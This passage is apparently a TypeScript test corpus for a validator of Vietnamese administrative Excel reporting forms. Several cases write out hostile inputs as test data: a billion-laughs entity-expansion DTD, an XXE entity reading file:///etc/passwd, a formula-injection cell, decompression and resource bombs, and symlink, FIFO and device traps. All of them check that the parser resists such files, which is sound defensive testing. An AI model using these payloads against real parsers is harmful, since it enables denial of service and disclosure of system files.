    ok('doc-duplicate', 'Cùng một văn bản ghi hai lần', ({ workbook }) => workbook(undefined, { documents: [DOC, { ...DOC, so_ky_hieu: ' 12/kh-ubnd ' }] }), {
      code: 'doc_duplicate',
      stored: { documents: 1 },
    }),
    ok(
      'doc-full-list',
      '300 văn bản (đầy bảng)',
      ({ workbook }) => workbook(undefined, { documents: Array.from({ length: 300 }, (_, i) => ({ ...DOC, so_ky_hieu: `${i + 1}/KH-UBND` })) }),
      { stored: { documents: 300 } },
    ),
    ok('doc-injection', 'Trích yếu bắt đầu bằng "="', ({ workbook }) => workbook(undefined, doc({ trich_yeu: '=1+1 kế hoạch' })), { stored: { documents: 1 } }),
    ok(
      'doc-blank-rows-between',
      'Dòng trống xen giữa các văn bản',
      ({ workbook }) =>
        workbook((wb) => {
          const ws = wb.getWorksheet('PL02')!;
          ws.getRow(9).values = ['Cấp xã', 'Quyết định', '5/QĐ-UBND', new Date(Date.UTC(2026, 2, 1)), 'UBND xã', 'Quyết định kiện toàn Ban chỉ đạo'];
        }, doc({})),
      { stored: { documents: 2 } },
    ),
  );
  return cases;
}

function xmlCases(): CorpusCase[] {
  return [
    no('xml-billion-laughs', 'Mở rộng thực thể XML (billion laughs)', 'not_xlsx', async ({ valid }) =>
      editXml(valid, 'xl/workbook.xml', (x) => {
        const dtd =
          '<!DOCTYPE lolz [<!ENTITY lol "lol">' +
          Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('') +
          ']>';
        return x.replace('?>', `?>${dtd}`).replace('<workbookPr', '<workbookPr x="&lol9;"');
      }),
    ),
    no('xml-xxe', 'Thực thể ngoài XML trỏ tới tệp hệ thống (XXE)', 'not_xlsx', async ({ valid }) =>
      editXml(valid, 'xl/workbook.xml', (x) =>
        x.replace('?>', '?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>').replace('<workbookPr', '<workbookPr x="&xxe;"'),
      ),
    ),
    no('xml-far-cell', 'Một ô ở dòng 1.048.576 (kích thước trang vô lý)', 'too_large', async ({ valid }) => {
      const part = await sheetPart(valid, 'PL01');
      return editXml(valid, part, (x) => x.replace('</sheetData>', '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'));
    }),
    no('xml-many-rows', '6.000 dòng dữ liệu trong một trang', 'too_large', async ({ valid }) => {
      const part = await sheetPart(valid, 'PL01');
      const rows = Array.from({ length: 6000 }, (_, i) => `<row r="${i + 100}"><c r="A${i + 100}"><v>1</v></c></row>`).join('');
      return editXml(valid, part, (x) => x.replace('</sheetData>', `${rows}</sheetData>`));
    }),
    no('xml-many-cols', 'Ô ở cột XFD (16.384 cột)', 'too_large', async ({ valid }) => {
      const part = await sheetPart(valid, 'PL01');
      return editXml(valid, part, (x) => x.replace('</sheetData>', '<row r="90"><c r="XFD90"><v>1</v></c></row></sheetData>'));
    }),
    ok('xml-dimension-lie', 'Khai báo kích thước A1:XFD1048576 nhưng ít dữ liệu', async ({ valid }) => {
      const part = await sheetPart(valid, 'PL01');
      return editXml(valid, part, (x) => x.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>'));
    }),
    no('xml-garbage-sheet', 'Nội dung trang tính không phải XML', 'not_xlsx', async ({ valid }) => {
      const part = await sheetPart(valid, 'PL01');
      return editZip(valid, (z) => void z.file(part, 'không phải xml <<<'));
    }),
  ];
}

/** A sheet's XML with `extra` put just before the element named `before` (or before </worksheet>). */
async function addToSheet(buf: Buffer, sheet: string, extra: string, before: string[]): Promise<Buffer> {
  const part = await sheetPart(buf, sheet);
  return editXml(buf, part, (x) => {
    for (const tag of before) {
      const at = x.indexOf(`<${tag}`);
      if (at >= 0) return x.slice(0, at) + extra + x.slice(at);
    }
    return x.replace('</worksheet>', `${extra}</worksheet>`);
  });
}

/** Random inline-string cells (incompressible) in rows from..to, columns A.. (n columns). */
function noiseRows(from: number, to: number, cols: number, chars: number): string {
  const out: string[] = [];
  for (let r = from; r <= to; r++) {
    const cells: string[] = [];
    for (let c = 0; c < cols; c++) {
      const col = String.fromCharCode(65 + Math.floor(c / 26)) + String.fromCharCode(65 + (c % 26));
      cells.push(`<c r="${col}${r}" t="inlineStr"><is><t>${randomBytes(chars).toString('base64')}</t></is></c>`);
    }
    out.push(`<row r="${r}">${cells.join('')}</row>`);
  }
  return out.join('');
}

const posix = process.platform !== 'win32';

function resourceCases(): CorpusCase[] {
  const XFD = 'XFD1048576';
  return [
    {
      ...ok(
        'res-merge-whole-sheet',
        `Gộp ô A100:${XFD} (cả phần còn lại của trang)`,
        async ({ valid }) => {
          const part = await sheetPart(valid, 'PL01');
          return editXml(valid, part, (x) => x.replace('</mergeCells>', `<mergeCell ref="A100:${XFD}"/></mergeCells>`));
        },
        { stored: { values: { pl01_bl_vu: 2, pl01_bl_tre: 3 } } },
      ),
      heavy: true,
    },
    {
      ...ok(
        'res-merge-over-range',
        `Gộp ô phủ cả bảng văn bản PL02 (A7:${XFD}): văn bản phía dưới là trống`,
        async ({ valid }) => {
          const part = await sheetPart(valid, 'PL02');
          return editXml(valid, part, (x) => x.replace('</mergeCells>', `<mergeCell ref="A7:${XFD}"/></mergeCells>`));
        },
        { stored: { documents: 1 } },
      ),
      heavy: true,
    },
    {
      ...ok(
        'res-validation-whole-sheet',
        'Kiểm tra dữ liệu (data validation) trên cả trang',
        async ({ valid }) =>
          addToSheet(
            valid,
            'PL01',
            `<dataValidations count="1"><dataValidation type="whole" operator="greaterThanOrEqual" allowBlank="1" sqref="A1:${XFD}"><formula1>0</formula1></dataValidation></dataValidations>`,
            ['hyperlinks', 'printOptions', 'pageMargins'],
          ),
        { stored: { values: { pl01_bl_vu: 2 } } },
      ),
      heavy: true,
    },
    {
      ...ok(
        'res-validation-columns',
        'Kiểm tra dữ liệu trên cả các cột A:J (thói quen thường gặp)',
        async ({ valid }) => {
          const part = await sheetPart(valid, 'PL02');
          return editXml(valid, part, (x) =>
            x.replace(
              /<dataValidations count="(\d+)">/,
              (_m, n) =>
                `<dataValidations count="${Number(n) + 1}"><dataValidation type="textLength" operator="lessThan" allowBlank="1" sqref="A1:J1048576"><formula1>5000</formula1></dataValidation>`,
            ),
          );
        },
        { stored: { documents: 1 } },
      ),
      heavy: true,
    },
    {
      ...ok(
        'res-conditional-whole-sheet',
        'Định dạng có điều kiện trên cả trang',
        async ({ valid }) =>
          addToSheet(
            valid,
            'PL01',
            `<conditionalFormatting sqref="A1:${XFD}"><cfRule type="cellIs" dxfId="0" priority="1" operator="greaterThan"><formula>0</formula></cfRule></conditionalFormatting>`,
            ['dataValidations', 'hyperlinks', 'printOptions', 'pageMargins'],
          ),
        { stored: { values: { pl01_bl_vu: 2 } } },
      ),
      heavy: true,
    },
    {
      ...ok(
        'res-cols-huge',
        'Định dạng cột cho cả 16.384 cột và kích thước khai báo A1:XFD1048576',
        async ({ valid }) => {
          const part = await sheetPart(valid, 'PL01');
          return editXml(valid, part, (x) =>
            x
              .replace(/<dimension ref="[^"]*"\/>/, `<dimension ref="A1:${XFD}"/>`)
              .replace(/<cols>.*?<\/cols>/, '<cols><col min="1" max="16384" width="12" customWidth="1"/></cols>'),
          );
        },
        { stored: { values: { pl01_bl_vu: 2 } } },
      ),
      heavy: true,
    },
    {
      ...ok(
        'res-file-7mb-photo',
        'Tệp 7 MB: đơn vị dán ảnh chụp văn bản (7 MB) vào trang hướng dẫn',
        async ({ valid }) => editZip(valid, (zip) => void zip.file('xl/media/image1.jpeg', randomBytes(7 * 1024 * 1024))),
        { stored: { values: { pl01_bl_vu: 2 } } },
      ),
      heavy: true,
    },
    {
      ...no(
        'res-file-7mb-rows',
        'Tệp 7 MB: 4.900 dòng × 64 cột chữ ngẫu nhiên trong một trang (giải nén 22 MB)',
        'too_large',
        async ({ valid }) => {
          const part = await sheetPart(valid, 'HUONG_DAN');
          return editXml(valid, part, (x) => x.replace(/<sheetData>.*<\/sheetData>|<sheetData\/>/s, `<sheetData>${noiseRows(1, 4900, 64, 18)}</sheetData>`));
        },
        /MB/,
      ),
      heavy: true,
    },
    {
      ...no(
        'res-cells-many',
        '160.000 ô số trong giới hạn dòng, cột (quá số ô cho phép)',
        'too_large',
        async ({ valid }) => {
          const part = await sheetPart(valid, 'HUONG_DAN');
          const rows = Array.from(
            { length: 2500 },
            (_, i) =>
              `<row r="${i + 1}">${Array.from({ length: 64 }, (_c, j) => `<c r="${String.fromCharCode(65 + Math.floor(j / 26))}${String.fromCharCode(65 + (j % 26))}${i + 1}"><v>${j}</v></c>`).join('')}</row>`,
          ).join('');
          return editXml(valid, part, (x) => x.replace(/<sheetData>.*<\/sheetData>|<sheetData\/>/s, `<sheetData>${rows}</sheetData>`));
        },
        /ô dữ liệu/,
      ),
      heavy: true,
    },
    {
      ...no(
        'res-xml-part-huge',
        'Một trang tính giải nén ra 30 MB (nén còn nhỏ)',
        'too_large',
        async ({ valid }) => {
          const part = await sheetPart(valid, 'HUONG_DAN');
          return editXml(valid, part, (x) => x.replace('</worksheet>', `<!--${' '.repeat(30 * 1024 * 1024)}--></worksheet>`));
        },
        /MB/,
      ),
      heavy: true,
    },
    {
      ...no('res-shared-strings-many', 'Bảng chuỗi khai báo 10 triệu chuỗi', 'too_large', async ({ valid }) =>
        editXml(valid, 'xl/sharedStrings.xml', (x) => x.replace(/uniqueCount="\d+"/, 'uniqueCount="10000000"')),
      ),
      heavy: true,
    },
    ...(posix
      ? [
          {
            ...no('fs-symlink-dev-zero', 'Tệp .xlsx là liên kết tới /dev/zero', 'not_xlsx', async () => Buffer.alloc(0), /liên kết/),
            place: (dir: string) => link(dir, 'zero.xlsx', '/dev/zero'),
          },
          {
            ...no('fs-fifo', 'Tệp .xlsx là một FIFO (đường ống)', 'not_xlsx', async () => Buffer.alloc(0), /đường ống/),
            place: (dir: string) => fifo(dir, 'pipe.xlsx'),
          },
          { ...no('fs-device', 'Đường dẫn là thiết bị /dev/zero', 'not_xlsx', async () => Buffer.alloc(0), /thiết bị/), place: () => '/dev/zero' },
          {
            ...no('fs-symlink-loop', 'Thư mục có liên kết vòng trỏ vào chính nó', 'not_xlsx', async () => Buffer.alloc(0), /liên kết/),
            place: (dir: string) => loopFolder(dir),
          },
        ]
      : []),
  ];
}

function link(dir: string, name: string, target: string): string {
  const p = path.join(dir, name);
  symlinkSync(target, p);
  return p;
}

function fifo(dir: string, name: string): string {
  const p = path.join(dir, name);
  execFileSync('mkfifo', [p]);
  return p;
}

function loopFolder(dir: string): string {
  const p = path.join(dir, 'loop');
  mkdirSync(p);
  symlinkSync('.', path.join(p, 'self'));
  symlinkSync('..', path.join(p, 'parent'));
  writeFileSync(path.join(p, 'ghi chu.txt'), 'không phải biểu mẫu');
  return p;
}

function contractCases(): CorpusCase[] {
  const rename =
    (name: string, ref: string) =>
    async ({ valid }: CorpusBase) =>
      editXml(valid, 'xl/workbook.xml', (x) => x.replace(new RegExp(`(<definedName name="${name}">)[^<]*`), (_m, open: string) => open + ref));
  return [
    no('name-into-meta', 'Tên ô chỉ tiêu trỏ vào trang _meta (ô năm)', 'name_into_meta', rename('v_pl01_bl_vu', '_meta!$B$6'), /v_pl01_bl_vu/),
    no('name-text-into-meta', 'Tên ô văn bản trỏ vào trang _meta (workbook_id)', 'name_into_meta', rename('t_a2', '_meta!$B$11'), /t_a2/),
    no(
      'name-two-on-one-cell',
      'Hai tên ô chỉ tiêu cùng trỏ một ô',
      'name_shared',
      async ({ valid }) => {
        const x = await JSZip.loadAsync(valid).then((z) => z.file('xl/workbook.xml')!.async('string'));
        const target = /<definedName name="v_pl01_bl_vu">([^<]*)/.exec(x)![1]!;
        return rename('v_pl01_bl_tre', target)({ valid } as CorpusBase);
      },
      /v_pl01_bl_tre/,
    ),
    no('name-wrong-cell', 'Tên ô chỉ tiêu trỏ sang ô khác của trang (C40)', 'name_misplaced', rename('v_pl01_bl_nu', 'PL01!$C$40'), /v_pl01_bl_nu/),
    no('name-range-not-cell', 'Tên ô chỉ tiêu trỏ tới một vùng nhiều ô', 'name_misplaced', rename('v_tt_cuoc', 'PL01!$C$6:$D$7'), /v_tt_cuoc/),
    no('name-wrong-sheet', 'Tên ô chỉ tiêu trỏ sang trang khác', 'name_misplaced', rename('v_tt_cuoc', 'PL01!$C$6'), /v_tt_cuoc/),
    no(
      'meta-second-unit-code',
      'Dòng unit_code thứ hai ẩn trong _meta',
      'meta_duplicate',
      ({ workbook }) =>
        workbook((wb) => {
          const meta = wb.getWorksheet('_meta')!;
          meta.getCell(60, 1).value = 'unit_code';
          meta.getCell(60, 2).value = 'X01';
        }),
      /unit_code/,
    ),
    ok(
      'meta-unit-name-other',
      'Tên đơn vị trong _meta khác danh sách (cùng mã): nhận, có cảnh báo nêu cả hai tên',
      ({ workbook }) => workbook((wb) => setMeta(wb, 'unit_name', 'Xã Không Tên')),
      { code: 'unit_name_mismatch' },
    ),
    ok(
      'doc-signed-form',
      'Đơn vị ký tên, ghi ngày ở khối chữ ký dưới bảng văn bản',
      ({ workbook }) =>
        workbook((wb) => {
          const ws = wb.getWorksheet('PL02')!;
          ws.getCell('A308').value = 'Tân Phú, ngày 05 tháng 12 năm 2026';
          ws.getCell('A313').value = 'Nguyễn Văn An';
        }),
      { stored: { documents: 1 } },
    ),
    no(
      'doc-right-below',
      'Văn bản gõ ngay dưới bảng Phụ lục 02 (dòng 306)',
      'doc_below_range',
      ({ workbook }) =>
        workbook((wb) => {
          wb.getWorksheet('PL02')!.getRow(306).values = [
            'Cấp xã',
            'Kế hoạch',
            '10/KH-UBND',
            new Date(Date.UTC(2026, 2, 1)),
            'UBND xã',
            'Kế hoạch truyền thông',
          ];
        }),
      /dòng 306/,
    ),
    {
      ...no(
        'batch-two-files-one-unit',
        'Hai tệp khác nhau của cùng một xã, cùng năm, trong một thư mục: không nhận tệp nào',
        'conflicting_files',
        async ({ workbook }) => workbook(),
      ),
      companion: ({ workbook }) => workbook((wb) => (named(wb, 'v_pl01_bl_nam').value = 1)),
      place: (dir, bytes, companion) => {
        const folder = path.join(dir, 'hai-tep');
        mkdirSync(folder, { recursive: true });
        writeFileSync(path.join(folder, 'X03 - ban 1.xlsx'), bytes);
        writeFileSync(path.join(folder, 'X03 - ban 2.xlsx'), companion!);
        return folder;
      },
    },
    no(
      'doc-below-range',
      'Văn bản gõ dưới bảng Phụ lục 02 (dòng 320)',
      'doc_below_range',
      ({ workbook }) =>
        workbook((wb) => {
          const ws = wb.getWorksheet('PL02')!;
          ws.getRow(320).values = ['Cấp xã', 'Quyết định', '9/QĐ-UBND', new Date(Date.UTC(2026, 2, 1)), 'UBND xã', 'Quyết định thành lập tổ công tác'];
        }),
      /dòng 320/,
    ),
  ];
}

export function corpusCases(): CorpusCase[] {
  return [
    ...containerCases(),
    ...metaCases(),
    ...nameCases(),
    ...numberCases(),
    ...numberCasesAcrossCells(),
    ...textCases(),
    ...documentCases(),
    ...xmlCases(),
    ...contractCases(),
    ...resourceCases(),
  ];
}

export const CORPUS_DOC = DOC;
